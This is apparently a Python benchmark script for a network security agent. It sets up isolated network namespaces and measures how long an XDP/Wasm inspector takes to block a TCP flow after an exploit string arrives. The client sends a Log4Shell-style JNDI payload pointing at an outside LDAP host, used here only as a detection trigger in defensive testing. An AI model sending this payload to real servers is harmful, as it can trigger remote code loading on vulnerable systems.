#!/usr/bin/env python3
"""Inspection latency of the network edge (issue 15): packet in -> Wasm verdict -> block
installed, and how many packets of a flow pass before the block lands.

Two network namespaces joined by a veth pair (created and removed here, addresses only inside
them). The agent (`wasm-sentinel run`, in namespace B) attaches the XDP filter to B's end with
an `inspect` rule on TCP ports 20000-20999 and runs the SDK's payload-signature inspector
(Wasm) with `actions: [block]` (scope port). For each trial a client in A opens a connection to
a fresh port, sends the exploit string, then one numbered 16-byte message every --interval-us (1 ms).
The server in B records the arrival time of everything that gets through; the block has landed
between the last message that arrived and the first that did not. Latency = time of the last
message that passed (server clock) - arrival of the exploit packet; `passed` = messages after
the exploit that still got through. Resolution: one interval (the block lands somewhere between
two messages).

    sudo python3 bench/net/inspect_latency.py build/release/src/cli/wasm-sentinel \\
        build/release/sdk/wasm/c_payload_signature.wasm --trials 40

Prints p50/p90/p99/max of the latency and of the packets that passed, one line per figure.
"""
import argparse
import ctypes
import os
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
A, B = f"wsnlat-a{os.getpid()}", f"wsnlat-b{os.getpid()}"
VA, VB = f"wla{os.getpid() % 100000}", f"wlb{os.getpid() % 100000}"


def sh(cmd, check=True):
    return subprocess.run(cmd, shell=True, check=check, capture_output=True, text=True)


def setup():
    sh(f"ip netns add {A}; ip netns add {B}")
    sh(f"ip link add name {VA} type veth peer name {VB}")
    sh(f"ip link set {VA} netns {A}; ip link set {VB} netns {B}")
    sh(f"ip -n {A} addr add 10.202.0.1/24 dev {VA}; ip -n {B} addr add 10.202.0.2/24 dev {VB}")
    sh(f"ip -n {A} link set {VA} up; ip -n {B} link set {VB} up")
    sh(f"ip -n {A} link set lo up; ip -n {B} link set lo up")


def teardown():
    sh(f"ip netns del {A}", check=False)
    sh(f"ip netns del {B}", check=False)


def in_ns(ns):
    """Moves the calling thread into namespace ns (threads keep their own network namespace)."""
    fd = os.open(f"/run/netns/{ns}", os.O_RDONLY)
    if LIBC.setns(fd, 0) != 0:  # os.setns exists only from Python 3.12
        raise OSError(ctypes.get_errno(), "setns")
    os.close(fd)


def server(port, ready, result):
    in_ns(B)
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("10.202.0.2", port))
    s.listen(1)
    ready.set()
    s.settimeout(5)
    c, _ = s.accept()
    c.settimeout(0.5)
    buf, first, last, got = b"", None, None, 0
    end = time.monotonic() + 3
    while time.monotonic() < end:
        try:
            d = c.recv(65536)
        except socket.timeout:
            continue
        if not d:
            break
        now = time.monotonic()
        buf += d
        if first is None and b"jndi" in buf:
            first = now
            buf = buf[buf.index(b"\n") + 1:] if b"\n" in buf else b""
        while first is not None and len(buf) >= 16:
            buf = buf[16:]
            got += 1
            last = now
    result.update(first=first, last=last, passed=got)
    c.close()
    s.close()


def client(port, messages, interval):
    in_ns(A)
    c = socket.create_connection(("10.202.0.2", port), timeout=2)
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    c.sendall(b"GET /?q=${jndi:ldap://198.51.100.9/a} HTTP/1.1\n")
    for i in range(messages):
        time.sleep(interval)
        try:
            c.sendall(b"%015d\n" % i)
        except OSError:
            break
    time.sleep(0.2)
    c.close()


def percentile(values, q):
    values = sorted(values)
    return values[min(len(values) - 1, int(round(q * (len(values) - 1))))]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("cli")
    ap.add_argument("inspector")
    ap.add_argument("--trials", type=int, default=40)
    ap.add_argument("--messages", type=int, default=1000)
    ap.add_argument("--interval-us", type=int, default=1000, help="between messages")
    o = ap.parse_args()
    if os.geteuid() != 0:
        sys.exit("needs root (network namespaces, XDP)")
    pin = f"/sys/fs/bpf/wsn-lat-{os.getpid()}"
    work = tempfile.mkdtemp(prefix="wsn-lat-")
    agent = None
    setup()
    try:
        os.makedirs(f"{work}/rules")
        with open(f"{work}/config.yml", "w") as f:
            f.write(f"sources:\n  ebpf:\n    enabled: false\n  xdp:\n    enabled: true\n"
                    f"    pin_dir: {pin}\n    interfaces: [{VB}]\n    rules:\n"
                    f"      - --id 1 --proto tcp --dport 20000-20999 --action inspect\n"
                    f"actions:\n  block:\n    pin_dir: {pin}\n    scope: port\n    ttl: 600s\n"
                    f"http:\n  enabled: false\nresponse:\n  audit_log: {work}/audit.jsonl\n"
                    f"alerts:\n  dedupe:\n    window: 0s\n")
        with open(f"{work}/rules/inspector.yml", "w") as f:
            f.write(f"id: inspector.payload\nname: Exploit payload\ntype: wasm\nseverity: critical\n"
                    f"module: {os.path.abspath(o.inspector)}\nactions: [block]\n")
        log = open(f"{work}/agent.log", "w")
        agent = subprocess.Popen(["nsenter", f"--net=/run/netns/{B}", o.cli, "run", "-c",
                                  f"{work}/config.yml", "-r", f"{work}/rules", "--output",
                                  f"{work}/alerts.jsonl", "--duration", "3600"],
                                 stdout=log, stderr=log)
        for _ in range(500):
            if "live detection with" in open(f"{work}/agent.log").read():
                break
            time.sleep(0.02)
        else:
            sys.exit("the agent did not start:\n" + open(f"{work}/agent.log").read())
        latencies, passed, missed = [], [], 0
        for t in range(o.trials):
            port = 20000 + t
            ready, result = threading.Event(), {}
            st = threading.Thread(target=server, args=(port, ready, result))
            st.start()
            ready.wait(5)
            ct = threading.Thread(target=client, args=(port, o.messages, o.interval_us / 1e6))
            ct.start()
            ct.join()
            st.join()
            if result.get("first") is None:
                missed += 1
                continue
            if result["passed"] >= o.messages:  # never blocked
                missed += 1
                continue
            last = result["last"] if result["last"] is not None else result["first"]
            latencies.append((last - result["first"]) * 1000)
            passed.append(result["passed"])
        if not latencies:
            sys.exit("no trial was blocked; agent log:\n" + open(f"{work}/agent.log").read())
        print(f"trials: {len(latencies)} blocked, {missed} not blocked or not seen")
        for name, values, unit in (("latency", latencies, "ms"), ("packets passed", passed, "")):
            print(f"{name}: p50 {percentile(values, 0.5):.1f}{unit} p90 {percentile(values, 0.9):.1f}{unit} "
                  f"p99 {percentile(values, 0.99):.1f}{unit} max {max(values):.1f}{unit} "
                  f"mean {statistics.mean(values):.1f}{unit}")
    finally:
        if agent:
            agent.send_signal(signal.SIGINT)
            agent.wait(10)
        subprocess.run(["nsenter", f"--net=/run/netns/{B}", o.cli, "net", "detach", "--iface", VB,
                        "--pin-dir", pin], capture_output=True)
        subprocess.run([o.cli, "net", "unload", "--pin-dir", pin], capture_output=True)
        teardown()
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
